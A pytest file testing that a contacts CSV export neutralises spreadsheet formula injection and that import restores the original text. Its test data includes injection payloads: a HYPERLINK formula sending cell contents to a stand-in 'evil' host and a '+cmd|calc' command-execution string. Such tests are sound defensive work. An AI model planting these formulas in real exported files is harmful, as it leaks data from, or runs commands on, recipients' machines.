"""The contacts CSV: cells a spreadsheet would run as formulas are quoted, and an import takes the quote off."""

import csv
import io
from datetime import UTC, datetime

import pytest

from core.csv_export import neutralised, restored, write_contacts
from core.csv_import import read_rows
from core.queries import EXPORT_COLUMNS


@pytest.mark.parametrize(("typed", "written"), [
    ('=HYPERLINK("http://evil/?x="&A1,"click")', '\'=HYPERLINK("http://evil/?x="&A1,"click")'),
    ("+cmd|calc", "'+cmd|calc"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\tAnn", "'\tAnn"),
    ("\rAnn", "'\rAnn"),
    ("Ann = Bob", "Ann = Bob"),
    ("O'Brien", "O'Brien"),
    ("", ""),
    (None, None),
])
def test_only_text_a_spreadsheet_would_run_as_a_formula_gets_a_leading_quote(typed, written):
    assert neutralised(typed) == written
    if typed:
        assert restored(neutralised(typed)) == typed


def test_a_quote_that_does_not_guard_a_formula_is_left_alone_on_import():
    assert restored("'Tis Ltd") == "'Tis Ltd"


def export_of(**values) -> dict:
    row = dict.fromkeys(EXPORT_COLUMNS) | {"email": "a@example.com", "is_test": False} | values
    out = io.StringIO()
    assert write_contacts(out, [row]) == 1
    return next(csv.DictReader(io.StringIO(out.getvalue())))


def test_user_text_columns_are_neutralised_and_what_nurture_writes_is_not():
    enrolled = datetime(2025, 12, 1, 9, 0, tzinfo=UTC)
    written = export_of(email="=1+2@example.com", first_name="-Bob", business_name="@acme",
                        segment="CRITICAL", enrollment_status="active", enrolled_at=enrolled, step_1="sent")
    assert (written["email"], written["first_name"], written["business_name"]) == (
        "'=1+2@example.com", "'-Bob", "'@acme")
    assert written["enrolled_at"] == "2025-12-01T09:00:00+00:00"
    assert (written["segment"], written["enrollment_status"], written["step_1"]) == ("CRITICAL", "active", "sent")


def test_an_exported_file_imports_as_the_addresses_and_names_it_came_from():
    written = io.StringIO()
    write_contacts(written, [dict.fromkeys(EXPORT_COLUMNS) | {"email": "-joe@example.com", "first_name": "=Jo"}])
    [(_, row)] = read_rows(io.StringIO(written.getvalue()))
    assert (row["email"], row["first_name"]) == ("-joe@example.com", "=Jo")
